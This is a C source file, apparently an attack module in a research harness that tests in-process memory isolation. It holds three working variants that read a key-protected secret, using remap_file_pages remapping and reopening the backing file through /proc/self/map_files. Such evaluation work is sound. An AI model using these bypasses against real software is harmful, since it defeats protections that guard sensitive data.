/* C7: the file behind a domain of shared memory is mapped again: remap_file_pages puts
 * a new mapping, without the key, in the old one's place, or other pages of the file
 * there; /proc/self/map_files opens the file for whoever has CAP_SYS_ADMIN.
 *
 * Source: [remap_file_pages(2)], [proc(5)]; own trials.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"
#include "pages.h"

#define PAGES 2

static void back_by_file(void) {
    int fd = pages_share_with_file(PAGES);
    if (fd >= 0) close(fd);
}

static size_t page_of_secret(void) { return ((uintptr_t)target.secret - target.base) / PAGE_BYTES; }

static void same_page(void) {
    TRY("remap_file_pages", syscall(SYS_remap_file_pages, target.secret, PAGE_BYTES, 0, page_of_secret(), 0));
    attack_read();
}

static void other_page(void) {
    TRY("remap_file_pages", syscall(SYS_remap_file_pages, target.secret, PAGE_BYTES, 0, page_of_secret() + 1, 0));
}

/* The name is the mapping's exact range, which foreign code may read (or guess). */
static void map_files(void) {
    char line[256], name[64] = "";
    FILE *maps = fopen("/proc/self/maps", "re");
    TRY("openat", maps ? 0 : -1);
    unsigned long first = 0, end, offset = 0;
    while (fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %*s %lx", &first, &end, &offset) == 3 && first <= (uintptr_t)target.secret &&
            (uintptr_t)target.secret < end) {
            snprintf(name, sizeof name, "/proc/self/map_files/%lx-%lx", first, end);
            break;
        }
    int fd = (int)TRY("openat", open(name, O_RDONLY));
    off_t at = (off_t)(offset + ((uintptr_t)target.secret - first));
    void *second = mmap(NULL, PAGE_BYTES, PROT_READ, MAP_SHARED, fd, at);
    TRY("mmap", second == MAP_FAILED ? -1 : 0);
    attack_hand_in(second, SECRET_BYTES);
}

const struct attack attacks[] = {
    {.variant = "remap-same", .while_open = back_by_file, .attack = same_page},
    {.variant = "remap-other", .while_open = back_by_file, .attack = other_page},
    {.variant = "map-files", .while_open = back_by_file, .attack = map_files},
    {0},
};
